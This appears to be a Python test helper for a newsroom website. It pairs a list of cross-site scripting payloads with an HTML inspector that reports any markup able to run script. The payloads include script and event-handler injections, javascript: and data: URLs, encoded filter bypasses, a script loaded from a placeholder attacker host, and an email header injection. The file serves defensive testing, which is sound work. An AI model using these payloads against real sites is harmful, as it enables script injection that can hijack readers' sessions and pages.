"""Hostile text: what a careless paste or an attacker puts into the newsroom's text fields,
and a checker that says whether a page lets any of it run.

Every payload, if it ran, would call nr_xss(); the checker looks for markup that could run
at all (script elements, on* handlers, javascript:/data: addresses, style tricks, frames),
not for the exact strings, so a payload that was half-sanitised into something new still
fails the test.
"""

import json
import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>nr_xss(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>nr_xss(3)</script>",
    "</title><script>nr_xss(4)</script>",
    "</textarea><script>nr_xss(5)</script>",
    '"><script>nr_xss(6)</script>',
    "'><img src=x onerror=nr_xss(7)>",
    '<img src="x" onerror="nr_xss(8)">',
    "<img src=javascript:nr_xss(9)>",
    '<a href="javascript:nr_xss(10)">点我</a>',
    '<a href="JaVaScRiPt:nr_xss(11)">点我</a>',
    '<a href="jav&#x09;ascript:nr_xss(12)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;nr_xss(13)">ent</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5ucl94c3MoMTQpPC9zY3JpcHQ+">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9bnJfeHNzKDE1KT4=">',
    "<svg onload=nr_xss(16)>",
    '<svg><script href="data:,nr_xss(17)"/></svg>',
    "<svg><animate onbegin=nr_xss(18) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=nr_xss(19)>",
    '<div style="background:url(javascript:nr_xss(20))">样式</div>',
    '<p style="width:expression(nr_xss(21))">IE</p>',
    "<style>@import 'javascript:nr_xss(22)';</style>",
    '<iframe src="javascript:nr_xss(23)"></iframe>',
    '<object data="data:text/html,<script>nr_xss(24)</script>"></object>',
    "<embed src=javascript:nr_xss(25)>",
    '<meta http-equiv="refresh" content="0;url=javascript:nr_xss(26)">',
    '<base href="javascript:nr_xss(27)//">',
    '<form action="javascript:nr_xss(28)"><button>提交</button></form>',
    '<input autofocus onfocus="nr_xss(29)">',
    "<details open ontoggle=nr_xss(30)>",
    "<body onload=nr_xss(31)>",
    "<<script>nr_xss(32);//<</script>",
    "<scr<script>ipt>nr_xss(33)</scr</script>ipt>",
    "<img src=x onerror=nr_xss(34)",  # broken: never closed
    "<!--<img src=--><img src=x onerror=nr_xss(35)//-->",
    "&lt;script&gt;nr_xss(36)&lt;/script&gt;",
    "\\u003cscript\\u003enr_xss(37)\\u003c/script\\u003e",
    "\u003cimg src=x onerror=nr_xss(38)\u003e",
    "{{ 7|add:7 }}{% debug %}${nr_xss(39)}",
    "标题\u2028\u2029</script><!--nr_xss(40)",
    "Subject\r\nBcc: victim@example.com\r\n\r\nnr_xss(41)",
    "<a href=\"https://ok.example/\" onclick=\"nr_xss(42)\">正常链接</a>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset", "ping", "lowsrc"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
MARKER = "nr_xss"


def _scheme_of(value):
    # Browsers ignore whitespace and control characters inside a scheme.
    return re.sub(r"[\x00-\x20]+", "", value or "").lower()


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.script = None  # (attrs, [chunks]) while inside a <script>
        self.json_ld = []

    def handle_starttag(self, tag, attrs):
        attrs = [(name.lower(), value or "") for name, value in attrs]
        where = f"<{tag} {' '.join(f'{n}={v!r}' for n, v in attrs)[:160]}>"
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"forbidden element {where}")
        if tag == "meta" and any(n == "http-equiv" and v.lower() == "refresh" for n, v in attrs):
            self.problems.append(f"meta refresh {where}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name} in {where}")
            if name in URL_ATTRIBUTES:
                for part in value.split(",") if name == "srcset" else [value]:
                    if _scheme_of(part).startswith(DANGEROUS_SCHEMES):
                        self.problems.append(f"{name} with a dangerous scheme in {where}")
            if name == "style" and (MARKER in value or re.search(r"expression|url\s*\(|javascript:", value, re.I)):
                self.problems.append(f"style attribute {where}")
            if name == "srcdoc":
                self.problems.append(f"srcdoc in {where}")
        if tag == "script":
            self.script = (dict(attrs), [])
        if tag == "style":
            self.script = ({"type": "text/css"}, [])

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag in {"script", "style"}:
            self.handle_endtag(tag)

    def handle_data(self, data):
        if self.script is not None:
            self.script[1].append(data)

    def handle_endtag(self, tag):
        if tag not in {"script", "style"} or self.script is None:
            return
        attrs, chunks = self.script
        text = "".join(chunks)
        self.script = None
        kind = (attrs.get("type") or "").lower()
        if tag == "style":
            if MARKER in text or re.search(r"expression|javascript:", text, re.I):
                self.problems.append("style element carrying the payload")
            return
        if kind in {"application/ld+json", "application/json"}:
            # Data, not code: it must parse, and carry no "<" that could end the element.
            if "<" in text:
                self.problems.append(f"raw '<' inside a {kind} block")
            if kind == "application/ld+json":
                self.json_ld.append(text)
            return
        if MARKER in text or "evil.example" in attrs.get("src", ""):
            self.problems.append(f"script element carrying the payload: {text[:120]!r} {attrs}")
        elif attrs.get("src") and not (attrs["src"].startswith("/") and not attrs["src"].startswith("//")):
            self.problems.append(f"script from elsewhere: {attrs['src']!r}")


def problems(html):
    """Everything in `html` that could run script; an empty list for an inert page."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    found = list(inspector.problems)
    for block in inspector.json_ld:
        if re.search(r"</script|<!--", block, re.I):
            found.append("JSON-LD block can end the script element")
        try:
            json.loads(block)
        except ValueError as error:
            found.append(f"JSON-LD does not parse: {error}")
    return found


def json_ld_blocks(html):
    inspector = _Inspector()
    inspector.feed(html)
    return [json.loads(block) for block in inspector.json_ld]


def text_of(html):
    """The text a reader sees (entities decoded), scripts and styles left out."""

    class Text(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.parts, self.skip = [], 0

        def handle_starttag(self, tag, attrs):
            self.skip += tag in {"script", "style"}

        def handle_endtag(self, tag):
            self.skip -= tag in {"script", "style"} and self.skip > 0

        def handle_data(self, data):
            if not self.skip:
                self.parts.append(data)

    parser = Text()
    parser.feed(html)
    return "".join(parser.parts)


def chunks(limit, prefix=""):
    """The payloads packed into as few strings of at most `limit` characters as possible."""
    out, current = [], prefix
    for payload in PAYLOADS:
        payload = payload[: limit - len(prefix)]
        if len(current) + len(payload) > limit:
            out.append(current)
            current = prefix
        current += payload
    out.append(current)
    return out
